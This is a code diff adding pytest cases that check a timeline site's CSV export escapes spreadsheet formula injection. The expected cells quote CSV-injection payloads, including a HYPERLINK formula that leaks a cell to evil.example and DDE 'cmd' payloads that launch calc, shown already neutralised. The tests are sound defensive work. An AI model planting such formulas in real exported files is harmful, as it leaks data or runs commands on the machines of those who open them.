@@ -3,6 +3,7 @@ addresses and branch a site is built for."""
 
 from __future__ import annotations
 
+import csv
 import json
 import shutil
 from pathlib import Path
@@ -10,6 +11,8 @@ from typing import Any
 
 import pytest
 from conftest import FIXTURES, run
+
+from timeline import data
 
 HOSTILE = FIXTURES / "hostile"
 EVENTS = "content/events"
@@ -58,6 +61,50 @@ def test_timelinejs_text_is_escaped(
     assert not [text for kind in texts.values() for text in kind if "<" in text or ">" in text]
 
 
+# A spreadsheet runs a cell that starts with = + - @ as a formula: such a cell gets a leading '.
+# (fixture, column, the cell expected for its event)
+CSV_CASES = [
+    ("formula-in-summary.md", "summary", "'=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Sources\")"),
+    ("plus-in-title.md", "title", "'+cmd|' /C calc'!A0"),
+    ("minus-in-title.md", "title", "'-2+3+cmd|' /C calc'!A0"),
+    ("at-in-summary.md", "summary", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+    ("formula-characters-inside.md", "title", "Talks: 2 + 2 = 4 @ Islamabad - notes"),  # not at the start: untouched
+    ("formula-characters-inside.md", "summary", "Prices -5% and +3%, agreed @ Islamabad = progress."),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "column", "expected"), CSV_CASES)
+def test_csv_cells_never_start_a_formula(
+    project: Path, capsys: pytest.CaptureFixture[str], name: str, column: str, expected: str
+) -> None:
+    with (built(project, capsys, name) / "events.csv").open(encoding="utf-8", newline="") as file:
+        rows = {row["id"]: row for row in csv.DictReader(file)}
+    row = rows[Path(name).stem]
+    assert row[column] == expected
+    assert (row["date"], row["era"]) == ("2021-04-08", "new-century")  # the other cells as they were
+    assert not [cell for row in rows.values() for cell in row.values() if cell.startswith(data.FORMULA_STARTS)]
+
+
+# What content cannot hold (the validator strips text), but a cell might: (value, the cell written)
+CELL_CASES = [
+    ("=1+1", "'=1+1"),
+    ("+1", "'+1"),
+    ("-1", "'-1"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("1948-05-01", "1948-05-01"),
+    ("", ""),
+    ("a = b", "a = b"),
+    ("'quoted'", "'quoted'"),
+]
+
+
+@pytest.mark.parametrize(("value", "expected"), CELL_CASES)
+def test_csv_cell(value: str, expected: str) -> None:
+    assert data._cell(value) == expected
+
+
 def test_every_hostile_fixture_has_a_case() -> None:
-    used = {row[0] for row in TIMELINE_CASES}
+    used = {row[0] for row in TIMELINE_CASES + CSV_CASES}
     assert sorted(path.name for path in HOSTILE.iterdir()) == sorted(used)
